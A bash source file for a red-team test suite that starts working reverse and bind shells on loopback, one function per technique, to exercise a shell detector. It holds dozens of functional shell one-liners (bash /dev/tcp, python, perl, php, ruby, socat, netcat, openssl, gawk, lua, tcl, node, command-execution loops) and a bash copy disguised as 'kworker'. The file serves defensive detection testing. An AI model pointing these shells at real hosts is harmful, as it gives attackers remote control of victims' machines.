# techniques.sh: launchers of REAL remote shells on loopback, one function per technique, for the
# red-team suite (tests/redteam/) and anyone who needs a live shell to detect (sourced; needs
# tests/lib.sh for wait_until, free_port, listening and SW_TMP/SW_BUILD).
#
# Each technique starts its own listener on 127.0.0.1 (never anything else), starts the shell,
# sends it `echo sw-pid=$$; id; exit` (the wire loops: see below), waits (bounded) until the
# listener received `uid=`, lets the shell exit, then kills whatever is left of it. Usage:
#   sw_tech_run NAME        run one technique; 0 when the listener got the output of `id`
#   sw_tech_describe        one TAP comment line with the variables below
#   sw_tech_missing NAME    prints the first program NAME needs that is not installed (empty: none)
#   SW_TECHNIQUES           every NAME, in the issue's order
#   SW_TECHNIQUES_WIRE      issue 15's: commands off the wire (loops that run each line received,
#                           no shell on the connection) and relays through pipes held anywhere, the
#                           issue's list first, then variants of the same classes (and busybox
#                           nc -e, a plain stdio shell)
# After sw_tech_run, these describe the last run (they stay set for the caller):
#   SW_T_NAME         the technique
#   SW_T_KIND         stdio: the shell is exec'd with the socket on fd 0/1 (its exec shows it);
#                     lineage: a relay, pty or socketpair sits between; the socket is held by the
#                     shell's parent, grandparent or a sibling in the same pipeline
#                     wire: no shell on the connection: the loop holding it runs each line it
#                     receives as a program (see "commands off the wire" below)
#   SW_T_ROOT_PID     the process the launcher started (the shell is it or a descendant)
#   SW_T_SHELL_PID    the interactive shell's own pid, as it reported with `echo $$`; for wire,
#                     the loop's (a shell it runs reports `echo sw-pid=$PPID`)
#   SW_T_PORT         the listening port on 127.0.0.1 (the attacker's for reverse shells, the
#                     shell's for the bind shell)
#   SW_T_PEER         the remote end as the shell sees it, ADDR:PORT
#   SW_T_LISTENER_PID the attacker's process (listener, or the client of a bind shell)
#   SW_T_US           microseconds from start to cleaned up
#   SW_T_DIR          scratch directory: listener.out holds what the attacker received
# Knobs: SW_TECH_TIMEOUT (s, default 10) bounds every wait; SW_PY the python interpreter
# (default /usr/bin/python3 when present: pyenv shims add execs of their own); SW_C_DUP3 the C shell.

SW_TECHNIQUES=(bash_tcp sh_fd196 python_dup2 python_pty perl_socket php_fsockopen ruby_tcpsocket
	socat_exec ncat_e nc_traditional_e mkfifo_nc openssl_relay python_bind c_dup3_fcntl bash_copy)
SW_TECHNIQUES_WIRE=(gawk_inet_reverse gawk_inet_bind lua_socket_reverse lua_socket_bind tclsh_exec
	python_popen_loop perl_backticks_loop node_bind node_reverse
	tclsh_server perl_open_pipe_bind node_exec_loop python_udp_popen ruby_popen_fork
	php_shell_exec_loop bash_eval_loop python_pipe_relay python_double_fork php_proc_open_pipes
	perl_open2_relay busybox_nc_e)
: "${SW_TECH_TIMEOUT:=10}"
if [ -z "${SW_PY:-}" ]; then
	if [ -x /usr/bin/python3 ]; then SW_PY=/usr/bin/python3; else SW_PY=$(command -v python3); fi
fi
: "${SW_C_DUP3:=$SW_BUILD/tests/c_dup3_fcntl}"
SW_SHELLS_DIR=$(cd "$(dirname "${BASH_SOURCE[0]}")" && pwd)
source "$SW_SHELLS_DIR/procs.sh"
SW_TECH_SEND='echo sw-pid=$$; id; exit'
# What the attacker sends to the wire loops (SW_T_KIND=wire), by how the loop runs a line:
#   POPEN  through `sh -c LINE` (popen, system, backticks, subprocess shell=True): that shell's
#          parent is the loop
#   EVAL   in the loop's own shell (bash `eval`): a child sh reports its parent
#   TCL    as the words of a Tcl `exec`, no shell (`eval "exec $line"`): one command a line
SW_TECH_SEND_POPEN='echo sw-pid=$PPID; id'
SW_TECH_SEND_EVAL="sh -c 'echo sw-pid=\$PPID'; id"
SW_TECH_SEND_TCL=$'sh -c {echo sw-pid=$PPID}\nid'

# ---- plumbing ---------------------------------------------------------------------------------

sw_tech_missing() {
	local need p
	case $1 in
	bash_tcp | sh_fd196 | bash_copy) need="bash sh" ;;
	python_dup2 | python_pty | python_bind) need="$SW_PY" ;;
	perl_socket) need=perl ;;
	php_fsockopen) need=php ;;
	ruby_tcpsocket) need=ruby ;;
	socat_exec) need=socat ;;
	ncat_e) need=ncat ;;
	nc_traditional_e | mkfifo_nc) need="nc.traditional mkfifo" ;;
	openssl_relay) need="openssl mkfifo" ;;
	c_dup3_fcntl) need=$SW_C_DUP3 ;;
	gawk_inet_reverse | gawk_inet_bind) need="gawk sh" ;;
	lua_socket_reverse | lua_socket_bind)
		need=$(sw_lua)
		command -v "$need" >/dev/null 2>&1 && ! "$need" -e 'require("socket")' >/dev/null 2>&1 &&
			{ echo lua-socket; return 0; }
		;;
	tclsh_exec | tclsh_server) need="tclsh sh" ;;
	python_popen_loop | python_pipe_relay | python_double_fork | python_udp_popen) need="$SW_PY sh" ;;
	perl_backticks_loop | perl_open_pipe_bind | perl_open2_relay) need="perl sh" ;;
	node_bind | node_reverse | node_exec_loop) need="node sh" ;;
	ruby_popen_fork) need="ruby sh" ;;
	php_shell_exec_loop | php_proc_open_pipes) need="php sh" ;;
	bash_eval_loop) need="bash sh" ;;
	busybox_nc_e) need="busybox sh" ;;
	*) echo "unknown-technique"; return 0 ;;
	esac
	for p in $need "$SW_PY" ss; do
		command -v "$p" >/dev/null 2>&1 || { echo "$p"; return 0; }
	done
}

sw_tech_describe() {
	printf '# %s (%s): shell=%s root=%s peer=%s port=%s listener=%s %d.%03d s\n' \
		"$SW_T_NAME" "$SW_T_KIND" "${SW_T_SHELL_PID:-?}" "$SW_T_ROOT_PID" "${SW_T_PEER:-?}" \
		"${SW_T_PORT:-?}" "${SW_T_LISTENER_PID:-?}" $((SW_T_US / 1000000)) \
		$((SW_T_US % 1000000 / 1000))
}

sw_tech_run() {
	local name=$1 t0 rc
	SW_T_NAME=$name SW_T_KIND=stdio SW_T_ROOT_PID= SW_T_SHELL_PID= SW_T_PORT= SW_T_PEER=
	SW_T_LISTENER_PID= SW_T_US=0 SW_T_FIFO_FD= SW_T_SEND= SW_T_UDP=
	SW_T_DIR=$SW_TMP/tech-$name.$RANDOM
	mkdir -p "$SW_T_DIR" && : >"$SW_T_DIR/listener.out" || return 1
	t0=${EPOCHREALTIME/./}
	declare -F "sw_tech_$name" >/dev/null || { echo "# unknown technique $name" >&2; return 1; }
	"sw_tech_$name"
	rc=$?
	SW_T_US=$((${EPOCHREALTIME/./} - t0))
	return $rc
}

# _sw_listen: the attacker's listener on a port the kernel picks; sets SW_T_PORT and SW_T_PEER.
# It sends SW_T_SEND when a technique set it (else SW_TECH_SEND); SW_T_UDP=1: over UDP.
_sw_listen() {
	local pf=$SW_T_DIR/port
	"$SW_PY" "$SW_SHELLS_DIR/listener.py" listen --port-file "$pf" --out "$SW_T_DIR/listener.out" \
		--send "${SW_T_SEND:-$SW_TECH_SEND}" --timeout "$SW_TECH_TIMEOUT" ${SW_T_UDP:+--udp} \
		2>"$SW_T_DIR/listener.err" &
	SW_T_LISTENER_PID=$!
	wait_until "$SW_TECH_TIMEOUT" test -s "$pf" || return 1
	SW_T_PORT=$(<"$pf")
	SW_T_PEER=127.0.0.1:$SW_T_PORT
}

# _sw_spawn CMD...: start the shell in a session of its own (so cleanup can reach its children).
_sw_spawn() {
	setsid "$@" </dev/null >"$SW_T_DIR/shell.log" 2>&1 &
	SW_T_ROOT_PID=$!
}

# _sw_finish: wait for the output of `id`, give the shell a moment to exit by itself, clean up.
_sw_finish() {
	local rc=0 out=$SW_T_DIR/listener.out pids
	wait_until "$SW_TECH_TIMEOUT" grep -aq 'uid=' "$out" || rc=1
	SW_T_SHELL_PID=$(grep -ao 'sw-pid=[0-9][0-9]*' "$out" 2>/dev/null | head -n 1 | cut -d= -f2)
	[ -n "$SW_T_ROOT_PID" ] && { wait_until 3 sw_gone "$SW_T_ROOT_PID" || true; }
	if [ -n "$SW_T_ROOT_PID" ]; then
		pids="$(sw_tree "$SW_T_ROOT_PID") $SW_T_ROOT_PID"
		kill -KILL -- -"$SW_T_ROOT_PID" 2>/dev/null
		# shellcheck disable=SC2086
		kill -KILL $pids 2>/dev/null
	fi
	[ -n "$SW_T_LISTENER_PID" ] && kill -KILL "$SW_T_LISTENER_PID" 2>/dev/null
	[ -n "$SW_T_FIFO_FD" ] && eval "exec $SW_T_FIFO_FD>&-"
	# shellcheck disable=SC2086
	{ wait $SW_T_ROOT_PID $SW_T_LISTENER_PID; } 2>/dev/null
	return $rc
}

# _sw_reverse CMD...: the common case: listener, then the shell calling back to it.
# CMD may contain @PORT@, replaced by the listener's port.
_sw_reverse() {
	local a args=()
	_sw_listen || { _sw_finish; return 1; }
	for a in "$@"; do args+=("${a//@PORT@/$SW_T_PORT}"); done
	_sw_spawn "${args[@]}"
	_sw_finish
}

# ---- techniques -------------------------------------------------------------------------------

sw_tech_bash_tcp() {
	_sw_reverse bash -c 'bash -i >& /dev/tcp/127.0.0.1/@PORT@ 0>&1'
}

# A copy of bash under another name (kworker): no file name, no inode says bash; its ELF
# build-id does (the alert's interpreter_by is build-id).
sw_tech_bash_copy() {
	cp /bin/bash "$SW_T_DIR/kworker" || return 1
	_sw_reverse "$SW_T_DIR/kworker" -c "$SW_T_DIR/kworker -i >& /dev/tcp/127.0.0.1/@PORT@ 0>&1"
}

sw_tech_sh_fd196() {
	_sw_reverse bash -c 'exec 196<>/dev/tcp/127.0.0.1/@PORT@; sh <&196 >&196 2>&196'
}

sw_tech_python_dup2() {
	_sw_reverse "$SW_PY" -c 'import socket,subprocess,os
s=socket.socket(socket.AF_INET,socket.SOCK_STREAM);s.connect(("127.0.0.1",@PORT@))
os.dup2(s.fileno(),0);os.dup2(s.fileno(),1);os.dup2(s.fileno(),2)
subprocess.call(["/bin/sh","-i"])'
}

sw_tech_python_pty() {
	SW_T_KIND=lineage
	_sw_reverse "$SW_PY" -c 'import socket,os,pty
s=socket.socket();s.connect(("127.0.0.1",@PORT@))
[os.dup2(s.fileno(),f) for f in (0,1,2)]
pty.spawn("/bin/sh")'
}

sw_tech_perl_socket() {
	_sw_reverse perl -e 'use Socket;$i="127.0.0.1";$p=@PORT@;
socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));
if(connect(S,sockaddr_in($p,inet_aton($i)))){open(STDIN,">&S");open(STDOUT,">&S");
open(STDERR,">&S");exec("/bin/sh -i");};'
}

sw_tech_php_fsockopen() {
	_sw_reverse php -r '$s=fsockopen("127.0.0.1",@PORT@);
$p=proc_open("/bin/sh -i",array(0=>$s,1=>$s,2=>$s),$pipes);proc_close($p);'
}

sw_tech_ruby_tcpsocket() {
	_sw_reverse ruby -rsocket -e 'c=TCPSocket.new("127.0.0.1",@PORT@)
$stdin.reopen(c);$stdout.reopen(c);$stderr.reopen(c);exec "/bin/sh -i"'
}

sw_tech_socat_exec() {
	SW_T_KIND=lineage
	_sw_reverse socat tcp:127.0.0.1:@PORT@ exec:/bin/sh,pty,stderr,setsid,sigint,sane
}

# Debian's ncat -e relays through pipes: the shell never gets the socket itself.
sw_tech_ncat_e() {
	SW_T_KIND=lineage
	_sw_reverse ncat 127.0.0.1 @PORT@ -e /bin/sh
}

sw_tech_nc_traditional_e() {
	_sw_reverse nc.traditional 127.0.0.1 @PORT@ -e /bin/sh
}

sw_tech_mkfifo_nc() {
	SW_T_KIND=lineage
	local f=$SW_T_DIR/f
	_sw_reverse bash -c "rm -f $f; mkfifo $f; cat $f | /bin/sh -i 2>&1 | nc.traditional 127.0.0.1 @PORT@ >$f"
}

sw_tech_c_dup3_fcntl() {
	_sw_reverse "$SW_C_DUP3" @PORT@
}

# The bind shell listens; the attacker (listener.py connect) calls in.
sw_tech_python_bind() {
	SW_T_KIND=stdio
	SW_T_PORT=$(free_port) || return 1
	_sw_spawn "$SW_PY" -c 'import socket,os
s=socket.socket();s.setsockopt(socket.SOL_SOCKET,socket.SO_REUSEADDR,1)
s.bind(("127.0.0.1",'"$SW_T_PORT"'));s.listen(1);c,a=s.accept();s.close()
[os.dup2(c.fileno(),f) for f in (0,1,2)];os.execv("/bin/sh",["sh","-i"])'
	wait_until "$SW_TECH_TIMEOUT" listening "$SW_T_PORT" || { _sw_finish; return 1; }
	"$SW_PY" "$SW_SHELLS_DIR/listener.py" connect --port "$SW_T_PORT" \
		--out "$SW_T_DIR/listener.out" --send "$SW_TECH_SEND" --timeout "$SW_TECH_TIMEOUT" \
		2>"$SW_T_DIR/listener.err" &
	SW_T_LISTENER_PID=$!
	wait_until "$SW_TECH_TIMEOUT" test -s "$SW_T_DIR/listener.out.local" &&
		SW_T_PEER=$(<"$SW_T_DIR/listener.out.local")
	_sw_finish
}

# openssl relay: `openssl s_server` with a throwaway self-signed cert is the attacker; the victim
# pipes a shell through `openssl s_client` and a fifo. s_server reads the command from a fifo we
# hold open, and writes what it receives to listener.out.
sw_tech_openssl_relay() {
	SW_T_KIND=lineage
	local d=$SW_T_DIR fd
	timeout "$SW_TECH_TIMEOUT" openssl req -x509 -newkey ec -pkeyopt ec_paramgen_curve:prime256v1 \
		-nodes -keyout "$d/key.pem" -out "$d/cert.pem" -days 1 -subj /CN=localhost \
		>/dev/null 2>&1 || return 1
	SW_T_PORT=$(free_port) || return 1
	SW_T_PEER=127.0.0.1:$SW_T_PORT
	mkfifo "$d/cmd"
	exec {fd}<>"$d/cmd"
	SW_T_FIFO_FD=$fd
	openssl s_server -quiet -naccept 1 -accept "127.0.0.1:$SW_T_PORT" -key "$d/key.pem" \
		-cert "$d/cert.pem" <"$d/cmd" >"$d/listener.out" 2>"$d/listener.err" &
	SW_T_LISTENER_PID=$!
	wait_until "$SW_TECH_TIMEOUT" listening "$SW_T_PORT" || { _sw_finish; return 1; }
	_sw_spawn bash -c "rm -f $d/f; mkfifo $d/f; /bin/sh -i <$d/f 2>&1 |
		openssl s_client -quiet -connect 127.0.0.1:$SW_T_PORT >$d/f 2>/dev/null"
	printf '%s\n' "$SW_TECH_SEND" >&"$fd"
	_sw_finish
}

# ---- commands off the wire and relays (issue 15) -----------------------------------------------
# SW_TECHNIQUES_WIRE. Kinds:
#   wire     no shell is ever on the connection: the process that holds it (SW_T_SHELL_PID; the
#            loop) reads one command a line and runs each as a new program (popen, system,
#            backticks, exec, eval) whose output it sends back. The attacker sends a line that
#            makes a shell run by the loop print `sw-pid=$PPID`: the loop's pid. The alert may name
#            the loop or the program it ran for the command (pid or parent pid is the loop's).
#   lineage  a shell reading stdin whose pipes (or socketpair) the holder of the connection relays.

# _sw_bind CMD...: a bind shell: CMD (with @PORT@ for a free port on 127.0.0.1) listens; the
# attacker (listener.py connect) calls in and sends the commands.
_sw_bind() {
	local a args=()
	SW_T_PORT=$(free_port) || return 1
	for a in "$@"; do args+=("${a//@PORT@/$SW_T_PORT}"); done
	_sw_spawn "${args[@]}"
	wait_until "$SW_TECH_TIMEOUT" listening "$SW_T_PORT" || { _sw_finish; return 1; }
	"$SW_PY" "$SW_SHELLS_DIR/listener.py" connect --port "$SW_T_PORT" \
		--out "$SW_T_DIR/listener.out" --send "${SW_T_SEND:-$SW_TECH_SEND}" \
		--timeout "$SW_TECH_TIMEOUT" 2>"$SW_T_DIR/listener.err" &
	SW_T_LISTENER_PID=$!
	wait_until "$SW_TECH_TIMEOUT" test -s "$SW_T_DIR/listener.out.local" &&
		SW_T_PEER=$(<"$SW_T_DIR/listener.out.local")
	_sw_finish
}

# gawk's TCP special files (GTFOBins' form); `c |& getline` runs the line as a coprocess, through
# /bin/sh -c. The loop ends at EOF (GTFOBins' loops forever on the last line).
SW_GAWK_LOOP='while (1) { printf "> " |& s; if ((s |& getline c) <= 0) break;
	if (c) { while ((c |& getline) > 0) print $0 |& s; close(c) } }'
sw_tech_gawk_inet_reverse() {
	SW_T_KIND=wire SW_T_SEND=$SW_TECH_SEND_POPEN
	_sw_reverse gawk 'BEGIN { s = "/inet/tcp/0/127.0.0.1/@PORT@"; '"$SW_GAWK_LOOP"' }'
}

# gawk cannot bind an address: this one listens on every interface, for the second or so until
# the attacker (on 127.0.0.1) calls in; gawk then takes no other connection.
sw_tech_gawk_inet_bind() {
	SW_T_KIND=wire SW_T_SEND=$SW_TECH_SEND_POPEN
	_sw_bind gawk 'BEGIN { s = "/inet/tcp/@PORT@/0/0"; '"$SW_GAWK_LOOP"' }'
}

# lua with lua-socket, io.popen per line (GTFOBins' form, ending at EOF).
SW_LUA_LOOP='while true do local r,x=t:receive(); if not r then break end;
local f=assert(io.popen(r,"r")); local b=assert(f:read("*a")); t:send(b); f:close() end; t:close()'
sw_lua() { if command -v lua5.4 >/dev/null 2>&1; then echo lua5.4; else echo lua; fi; }
sw_tech_lua_socket_reverse() {
	SW_T_KIND=wire SW_T_SEND=$SW_TECH_SEND_POPEN
	_sw_reverse "$(sw_lua)" -e 'local s=require("socket"); local t=assert(s.tcp());
assert(t:connect("127.0.0.1",@PORT@)); '"$SW_LUA_LOOP"
}

sw_tech_lua_socket_bind() {
	SW_T_KIND=wire SW_T_SEND=$SW_TECH_SEND_POPEN
	_sw_bind "$(sw_lua)" -e 'local k=require("socket"); local s=assert(k.bind("127.0.0.1",@PORT@));
local t=s:accept(); s:close(); '"$SW_LUA_LOOP"
}

# tclsh (GTFOBins' form, the script on tclsh's stdin): `exec` runs each line as a word list, no
# shell. The loop ends at EOF.
sw_tech_tclsh_exec() {
	SW_T_KIND=wire SW_T_SEND=$SW_TECH_SEND_TCL
	_sw_reverse sh -c 'printf "%s\n" "$0" | tclsh' 'set s [socket 127.0.0.1 @PORT@];
while 1 { puts -nonewline $s "> "; flush $s; if {[gets $s c] < 0} break; set e "exec $c";
if {![catch {set r [eval $e]} err]} { puts $s $r }; flush $s }; close $s'
}

# A Tcl bind server from a dropped script: `socket -server`, each line through `exec sh -c`.
sw_tech_tclsh_server() {
	SW_T_KIND=wire SW_T_SEND=$SW_TECH_SEND_POPEN
	cat >"$SW_T_DIR/server.tcl" <<'TCL'
proc accepted {c a p} { fconfigure $c -buffering line; fileevent $c readable [list line $c] }
proc line {c} {
	if {[gets $c l] < 0} { close $c; set ::done 1; return }
	catch {exec sh -c $l} out
	puts $c $out
}
socket -server accepted -myaddr 127.0.0.1 [lindex $argv 0]
vwait done
TCL
	_sw_bind tclsh "$SW_T_DIR/server.tcl" @PORT@
}

# python: each line through subprocess.check_output(shell=True); the output goes back.
sw_tech_python_popen_loop() {
	SW_T_KIND=wire SW_T_SEND=$SW_TECH_SEND_POPEN
	_sw_reverse "$SW_PY" -c 'import socket,subprocess
s=socket.create_connection(("127.0.0.1",@PORT@))
for l in s.makefile("rb"):
    try: o=subprocess.check_output(l,shell=True,stderr=subprocess.STDOUT)
    except subprocess.CalledProcessError as e: o=e.output
    s.sendall(o)'
}

# perl: backticks per line.
sw_tech_perl_backticks_loop() {
	SW_T_KIND=wire SW_T_SEND=$SW_TECH_SEND_POPEN
	_sw_reverse perl -e 'use IO::Socket::INET;
$s=IO::Socket::INET->new(PeerAddr=>"127.0.0.1:@PORT@") or die;$s->autoflush(1);
while(<$s>){print $s `$_`}'
}

# perl bind: open(P, "LINE |") per line.
sw_tech_perl_open_pipe_bind() {
	SW_T_KIND=wire SW_T_SEND=$SW_TECH_SEND_POPEN
	_sw_bind perl -e 'use IO::Socket::INET;
$l=IO::Socket::INET->new(LocalAddr=>"127.0.0.1",LocalPort=>@PORT@,Listen=>1,ReuseAddr=>1) or die;
$s=$l->accept;close $l;$s->autoflush(1);
while($c=<$s>){chomp $c;open(P,"$c 2>&1 |");print $s $_ while <P>;close P}'
}

# node (GTFOBins' forms, bound to 127.0.0.1): spawn('/bin/sh') with its stdio on pipes (libuv makes
# them unix socketpairs) that node relays to the connection it holds on a fd of its own.
sw_tech_node_reverse() {
	SW_T_KIND=lineage
	_sw_reverse node -e 'sh = require("child_process").spawn("/bin/sh");
require("net").connect(@PORT@, "127.0.0.1", function () { this.pipe(sh.stdin); sh.stdout.pipe(this);
sh.stderr.pipe(this); })'
}

sw_tech_node_bind() {
	SW_T_KIND=lineage
	_sw_bind node -e 'sh = require("child_process").spawn("/bin/sh");
require("net").createServer(function (client) { client.pipe(sh.stdin); sh.stdout.pipe(client);
sh.stderr.pipe(client); }).listen(@PORT@, "127.0.0.1")'
}

# node: child_process.exec (/bin/sh -c) per chunk received.
sw_tech_node_exec_loop() {
	SW_T_KIND=wire SW_T_SEND=$SW_TECH_SEND_POPEN
	_sw_reverse node -e 'const cp = require("child_process");
const c = require("net").connect(@PORT@, "127.0.0.1");
c.on("data", d => cp.exec(d.toString(), (e, o, er) => c.write(o + er)))'
}

# python: `sh -i` on subprocess pipes; the parent relays them to the socket with select.
SW_PY_RELAY='
def relay(s, i, o):
    while True:
        r = select.select([s, o], [], [])[0]
        if s in r:
            d = s.recv(4096)
            if not d: break
            os.write(i, d)
        if o in r:
            d = os.read(o, 4096)
            if not d: break
            s.sendall(d)'
sw_tech_python_pipe_relay() {
	SW_T_KIND=lineage
	_sw_reverse "$SW_PY" -c 'import socket,subprocess,select,os'"$SW_PY_RELAY"'
s = socket.create_connection(("127.0.0.1", @PORT@))
p = subprocess.Popen(["/bin/sh", "-i"], stdin=subprocess.PIPE, stdout=subprocess.PIPE,
                     stderr=subprocess.STDOUT)
relay(s, p.stdin.fileno(), p.stdout.fileno())'
}

# python: a double fork: the grandparent connects and makes the pipes, the middle process exits at
# once (the shell is an orphan), the grandparent relays.
sw_tech_python_double_fork() {
	SW_T_KIND=lineage
	_sw_reverse "$SW_PY" -c 'import socket,select,os'"$SW_PY_RELAY"'
s = socket.create_connection(("127.0.0.1", @PORT@))
ir, iw = os.pipe(); orr, ow = os.pipe()
if os.fork() == 0:
    if os.fork() == 0:
        os.dup2(ir, 0); os.dup2(ow, 1); os.dup2(ow, 2)
        os.execv("/bin/sh", ["sh", "-i"])
    os._exit(0)
os.wait()
os.close(ir); os.close(ow)
relay(s, iw, orr)'
}

# ruby: fork into the background, IO.popen per line (the well-known one-liner).
sw_tech_ruby_popen_fork() {
	SW_T_KIND=wire SW_T_SEND=$SW_TECH_SEND_POPEN
	_sw_reverse ruby -rsocket -e 'exit if fork;c=TCPSocket.new("127.0.0.1","@PORT@");
while(cmd=c.gets);IO.popen(cmd,"r"){|io|c.print io.read}end'
}

# php: shell_exec per line.
sw_tech_php_shell_exec_loop() {
	SW_T_KIND=wire SW_T_SEND=$SW_TECH_SEND_POPEN
	_sw_reverse php -r '$s=fsockopen("127.0.0.1",@PORT@);
while(($l=fgets($s))!==false){fwrite($s,(string)shell_exec($l));}'
}

# php: proc_open of `sh -i` with three pipes; php relays them with stream_select.
sw_tech_php_proc_open_pipes() {
	SW_T_KIND=lineage
	_sw_reverse php -r '$s=fsockopen("127.0.0.1",@PORT@);
$p=proc_open(["/bin/sh","-i"],[0=>["pipe","r"],1=>["pipe","w"],2=>["pipe","w"]],$io);
while(true){$r=[$s,$io[1],$io[2]];$w=null;$e=null;if(stream_select($r,$w,$e,null)<1)break;
foreach($r as $x){$d=fread($x,4096);if($d===""||$d===false)break 2;
if($x===$s)fwrite($io[0],$d);else fwrite($s,$d);}}'
}

# perl: IPC::Open2 `sh -i`, relayed with IO::Select.
sw_tech_perl_open2_relay() {
	SW_T_KIND=lineage
	_sw_reverse perl -e 'use IO::Socket::INET;use IPC::Open2;use IO::Select;
$s=IO::Socket::INET->new(PeerAddr=>"127.0.0.1:@PORT@") or die;
$pid=open2($o,$i,"/bin/sh","-i");$sel=IO::Select->new($s,$o);
L: while(@r=$sel->can_read){for $h (@r){sysread($h,$d,4096) or last L;
if($h==$s){syswrite($i,$d)}else{syswrite($s,$d)}}}'
}

# bash: a `while read` loop over /dev/tcp that evals each line, its output to the socket.
sw_tech_bash_eval_loop() {
	SW_T_KIND=wire SW_T_SEND=$SW_TECH_SEND_EVAL
	_sw_reverse bash -c 'exec 5<>/dev/tcp/127.0.0.1/@PORT@; while read -r l <&5; do eval "$l" >&5 2>&5; done'
}

# busybox nc -e (reverse: busybox nc cannot bind an address).
sw_tech_busybox_nc_e() {
	_sw_reverse busybox nc 127.0.0.1 @PORT@ -e /bin/sh
}

# python over UDP: says hello to the attacker's port, runs each datagram through
# subprocess.run(shell=True), sends the output back; an empty datagram ends it.
sw_tech_python_udp_popen() {
	SW_T_KIND=wire SW_T_SEND=$SW_TECH_SEND_POPEN SW_T_UDP=1
	_sw_reverse "$SW_PY" -c 'import socket,subprocess
s=socket.socket(socket.AF_INET,socket.SOCK_DGRAM);s.connect(("127.0.0.1",@PORT@));s.send(b"\n")
while True:
    l=s.recv(65536)
    if not l: break
    s.send(subprocess.run(l,shell=True,stdout=subprocess.PIPE,stderr=subprocess.STDOUT).stdout)'
}
